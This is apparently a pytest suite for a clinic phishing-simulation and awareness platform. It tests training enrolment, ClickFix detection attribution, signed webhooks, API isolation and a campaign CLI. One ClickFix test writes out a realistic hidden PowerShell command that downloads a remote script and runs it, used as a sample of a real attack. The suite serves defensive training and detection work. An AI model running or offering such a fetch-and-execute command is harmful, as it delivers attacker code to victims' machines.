"""Where simulations meet the rest: training, monitoring, webhooks, the API and the CLI."""

import json
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from io import StringIO

import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from clinicshield.accounts.actions import do_create_api_token
from clinicshield.lib.notify import SIGNATURE_HEADER, verify_signature
from clinicshield.simulations import actions, queries, tasks
from clinicshield.simulations.models import Campaign, Recipient

from .conftest import make_campaign

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36"


def launched(org, smtp, template="ehr-password-expiry", targets="all"):
    campaign = make_campaign(org, smtp, template=template, targets=targets)
    actions.do_launch_campaign(campaign, timezone.now(), immediately=True, actor="test")
    actions.do_send_due(campaign.pk, timezone.now())
    campaign.refresh_from_db()
    return campaign


def test_a_person_who_submits_is_enrolled_in_training_at_once(
    org_a,
    staff,
    smtp_server,
    settings_fast_humans,
    django_capture_on_commit_callbacks,
    huey_immediate,
):
    from clinicshield.training.models import Assignment

    campaign = launched(org_a, smtp_server)
    ana = Recipient.objects.get(campaign=campaign, email="ana@clinic-a.example")
    client = Client(HTTP_USER_AGENT=BROWSER)
    with django_capture_on_commit_callbacks(execute=True):
        client.get(f"/t/{ana.token}")
        client.post(f"/t/{ana.token}/h?h=1")
        client.post(f"/t/{ana.token}/submit?h=1")
        tasks.fold_hits_task()  # what the hits asked the worker for (Huey runs it at once)
    modules = set(
        Assignment.objects.filter(person__email=ana.email).values_list("module_key", flat=True)
    )
    assert modules == {"phishing", "passwords-mfa"}
    assert not Assignment.objects.filter(person__email="ben@clinic-a.example").exists()


def test_monitoring_attributes_a_clickfix_run_with_a_live_token_to_the_campaign(
    org_a, org_b, staff, smtp_server
):
    campaign = launched(org_a, smtp_server, template="booking-captcha")
    token = Recipient.objects.filter(campaign=campaign).first().token
    chrome = '"C:\\Program Files\\Google\\Chrome\\chrome.exe"'
    command = f'{chrome} "http://testserver/s/{token}#  I am not a robot"'
    now = timezone.now()
    assert actions.do_attribute_clickfix_detection(org_a, command, now) is True
    assert actions.do_attribute_clickfix_detection(org_a, command, now) is True  # a second rule
    campaign.refresh_from_db()
    assert campaign.detections == 1
    # Another organisation's alert, or a real attack, is not ours to swallow.
    assert actions.do_attribute_clickfix_detection(org_b, command, now) is False
    real = "powershell -w hidden -c iwr http://203.0.113.7/a.ps1 | iex # I am not a robot"
    assert actions.do_attribute_clickfix_detection(org_a, real, now) is False


class WebhookSink(BaseHTTPRequestHandler):
    received: list[tuple[dict, bytes]] = []

    def do_POST(self):  # noqa: N802
        body = self.rfile.read(int(self.headers["Content-Length"]))
        WebhookSink.received.append(({k.lower(): v for k, v in self.headers.items()}, body))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def webhook_url():
    server = HTTPServer(("127.0.0.1", 0), WebhookSink)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    WebhookSink.received = []
    yield f"http://127.0.0.1:{server.server_port}/hook"
    server.shutdown()


def test_a_click_sends_a_signed_webhook(
    org_a,
    staff,
    smtp_server,
    settings_fast_humans,
    webhook_url,
    django_capture_on_commit_callbacks,
    huey_immediate,
):
    org_a.webhook_url = webhook_url
    org_a.save(update_fields=["webhook_url"])
    campaign = launched(org_a, smtp_server)
    ben = Recipient.objects.get(campaign=campaign, email="ben@clinic-a.example")
    with django_capture_on_commit_callbacks(execute=True):
        Client(HTTP_USER_AGENT=BROWSER).post(f"/t/{ben.token}/h?h=1")
        tasks.fold_hits_task()
    headers, body = WebhookSink.received[-1]
    assert verify_signature(org_a.webhook_secret, headers[SIGNATURE_HEADER.lower()], body)
    payload = json.loads(body)
    assert payload["event"] == "simulation.clicked" and payload["data"]["recipient"] == ben.pk


def test_the_api_shows_only_the_tokens_organisation(org_a, org_b, staff, smtp_server):
    campaign = launched(org_a, smtp_server)
    token_a = do_create_api_token(org_a, "ci", "viewer", "test")
    token_b = do_create_api_token(org_b, "ci", "viewer", "test")
    client = Client()
    ok = client.get(
        f"/api/simulations/campaigns/{campaign.pk}/results", HTTP_AUTHORIZATION=f"Bearer {token_a}"
    )
    assert ok.status_code == 200 and ok.json()["totals"]["funnel"]["sent"] == 3
    other = client.get(
        f"/api/simulations/campaigns/{campaign.pk}/results", HTTP_AUTHORIZATION=f"Bearer {token_b}"
    )
    assert other.status_code == 404
    listed = client.get("/api/simulations/campaigns", HTTP_AUTHORIZATION=f"Bearer {token_b}").json()
    assert listed == []
    templates = client.get(
        "/api/simulations/templates", HTTP_AUTHORIZATION=f"Bearer {token_a}"
    ).json()
    assert len({t["key"] for t in templates}) >= 10


def run(*args):
    out = StringIO()
    call_command("campaign", *args, stdout=out)
    return out.getvalue()


def test_the_cli_lists_creates_launches_and_reports(org_a, staff, smtp_server):
    templates = json.loads(run("templates", "--format", "json"))
    assert {"key", "name", "language", "kind", "difficulty"} <= set(templates[0])
    assert {t["kind"] for t in templates} == {"phishing", "clickfix"}
    campaign_id = run(
        "create",
        "--org",
        "clinic-a",
        "--name",
        "CLI drill",
        "--template",
        "courier-delivery",
        "--targets",
        "dept:lab",
        "--smtp-host",
        smtp_server.host,
        "--smtp-port",
        str(smtp_server.port),
        "--from",
        "avisos@sim.example",
        "--base-url",
        "https://drills.example",
    ).strip()
    assert Campaign.objects.get(pk=int(campaign_id)).recipients.count() == 1
    assert "sent 1" in run("launch", campaign_id, "--now")
    results = json.loads(run("results", campaign_id, "--format", "json"))
    assert results["recipients"] == [
        {**results["recipients"][0], "email": "carla@clinic-a.example", "status": "sent"}
    ]
    assert len(smtp_server.to("carla@clinic-a.example")) == 1
    table = run("results", campaign_id)
    assert "report_rate: 0.0" in table and "funnel:" in table
    table_templates = run("templates")
    assert "booking-captcha" in table_templates and "KEY" in table_templates


def test_the_cli_refuses_bad_input_with_a_clear_reason(org_a, staff):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="no organisation with short name 'nope'"):
        run(
            "create",
            "--org",
            "nope",
            "--name",
            "x",
            "--template",
            "payslip",
            "--smtp-host",
            "h",
            "--from",
            "a@b.c",
            "--base-url",
            "https://x",
        )
    with pytest.raises(CommandError, match="no template called"):
        run(
            "create",
            "--org",
            "clinic-a",
            "--name",
            "x",
            "--template",
            "nope",
            "--smtp-host",
            "h",
            "--from",
            "a@b.c",
            "--base-url",
            "https://x",
        )
    with pytest.raises(CommandError, match="Nobody matches"):
        run(
            "create",
            "--org",
            "clinic-a",
            "--name",
            "x",
            "--template",
            "payslip",
            "--targets",
            "site:Atlantis",
            "--smtp-host",
            "h",
            "--from",
            "a@b.c",
            "--base-url",
            "https://x",
        )


def test_the_demo_adds_two_past_campaigns_with_results_and_a_triage_item(org_a, staff):
    from clinicshield.simulations import demo

    summary = demo.seed(org_a, timezone.now())
    assert "2 past campaigns" in summary
    campaigns = Campaign.objects.filter(organisation=org_a, state="finished")
    assert campaigns.count() == 2
    history = queries.org_history(org_a)
    assert len(history["trend"]) == 2
    for campaign in campaigns:
        results = queries.campaign_results(campaign)
        assert results.funnel["sent"] == 3
    item = org_a.reported_messages.get()
    assert item.verdict == "dangerous"
